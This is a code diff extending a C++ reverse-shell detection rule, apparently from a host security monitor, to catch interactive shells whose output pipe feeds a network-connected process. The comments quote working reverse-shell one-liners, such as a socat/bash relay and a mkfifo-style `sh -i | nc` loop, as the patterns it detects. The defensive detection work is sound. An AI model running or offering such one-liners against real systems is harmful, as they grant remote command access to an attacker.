@@ -4,7 +4,8 @@
 //    any program whose stdin and stdout are that same socket (a renamed shell behaves the same).
 //  - relayed (`socat exec:'bash -li',pty tcp:h:p`, python `pty.spawn` after dup2 of a socket): a
 //    shell or interpreter whose stdin is a terminal or a unix socket, started by an exec that
-//    made or accepted a TCP connection.
+//    made or accepted a TCP connection; or an interactive shell (`-i`, no `-c`) whose stdout pipe
+//    is read by an exec that connects (`cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`).
 // The connection event (net_connect / net_accept with the same 4-tuple, or the parent exec's
 // connection) joins the evidence. Families are polled separately, so either may come first:
 // an exec waits (bounded) for its connection and is reported when it arrives. A direct shell
@@ -40,6 +41,19 @@ bool flag(const json& obj, const char* key) {
 std::uint64_t inode(const json& obj) {
   auto it = obj.find("inode");
   return it != obj.end() && it->is_number_unsigned() ? it->get<std::uint64_t>() : 0;
+}
+
+// `sh -i`, `bash -li`: commands from stdin, interactively (no -c, no script).
+bool interactive(const std::vector<std::string>& args) {
+  bool i_flag = false;
+  for (std::size_t k = 1; k < args.size() && k < 64; ++k) {
+    const std::string& a = args[k];
+    if (a.size() < 2 || a[0] != '-') return false;  // a script or inline code follows
+    if (a[1] == '-') continue;
+    if (a.find('c') != std::string::npos) return false;
+    i_flag |= a.find('i') != std::string::npos;
+  }
+  return i_flag;
 }
 
 bool connected(const json& net) {
@@ -100,6 +114,17 @@ class ReverseShell : public Rule {
     const std::uint64_t in_ino = inode(in), out_ino = inode(outfd);
     const bool same = in_ino != 0 && in_ino == out_ino;
     Shell s{exec_id_of(ev), seq_of(ev), {}, {}, true};
+    if (flag(in, "pipe") && in_ino) {  // a reader of a pipe: perhaps the relay of a shell's output
+      if (auto w = waiting_pipe_.find(in_ino); w != waiting_pipe_.end()) {
+        Shell piped = w->second;
+        waiting_pipe_.erase(w);
+        piped.key = "exec " + std::to_string(s.exec_id);
+        piped.title += basename_of(binary_of(ev)) + " (exec " + std::to_string(s.exec_id) + "), which holds a network connection";
+        wait_or_report(piped, out);
+      }
+      if (pipe_readers_.size() >= kMaxPending) dropped_ += pipe_readers_.size(), pipe_readers_.clear();
+      pipe_readers_[in_ino] = s.exec_id;
+    }
     if (flag(in, "socket") && family(in, "net").contains("dst_addr")) {
       if (!shell && !(same && flag(outfd, "socket"))) return;  // `cat < /dev/tcp/...`: data, not commands
       const auto& net = family(in, "net");
@@ -115,9 +140,26 @@ class ReverseShell : public Rule {
       s.title = "reverse shell: " + command_text(ev) + " on a " + (flag(in, "tty") ? "terminal" : "unix socket") +
                 " relayed by " + basename_of(parent->binary) + " (exec " + std::to_string(parent->exec_id) +
                 "), which holds a network connection";
+    } else if (shell && flag(outfd, "pipe") && out_ino && interactive(args_of(ev))) {
+      s.direct = false;
+      s.title = "reverse shell: " + command_text(ev) + " (interactive) writes into a pipe read by ";
+      auto r = pipe_readers_.find(out_ino);
+      if (r == pipe_readers_.end()) {  // its reader has not exec'd yet
+        if (waiting_pipe_.size() >= kMaxPending) dropped_ += waiting_pipe_.size(), waiting_pipe_.clear();
+        waiting_pipe_[out_ino] = s;
+        return;
+      }
+      const ExecInfo* reader = st.exec(r->second);
+      s.key = "exec " + std::to_string(r->second);
+      s.title += (reader ? basename_of(reader->binary) : std::string("exec")) + " (exec " + std::to_string(r->second) +
+                 "), which holds a network connection";
     } else {
       return;
     }
+    wait_or_report(s, out);
+  }
+
+  void wait_or_report(const Shell& s, std::vector<Finding>& out) {
     if (s.key.empty() || s.exec_id == 0 || reported_.count(s.exec_id)) return;
     if (auto it = connections_.find(s.key); it != connections_.end()) {
       report(s, it->second, out);
@@ -172,6 +214,8 @@ class ReverseShell : public Rule {
   std::map<std::string, Shell> pending_;  // shells waiting for their connection, by key
   std::unordered_map<std::uint64_t, Shell> by_exec_;
   std::unordered_set<std::uint64_t> reported_;
+  std::unordered_map<std::uint64_t, std::uint64_t> pipe_readers_;  // stdin pipe inode -> exec reading it
+  std::unordered_map<std::uint64_t, Shell> waiting_pipe_;          // interactive shells' stdout pipe -> shell
   std::deque<std::pair<std::uint64_t, std::uint64_t>> exited_;  // (exec_id, event count at its exit)
   std::uint64_t events_ = 0;
   std::uint64_t dropped_ = 0;
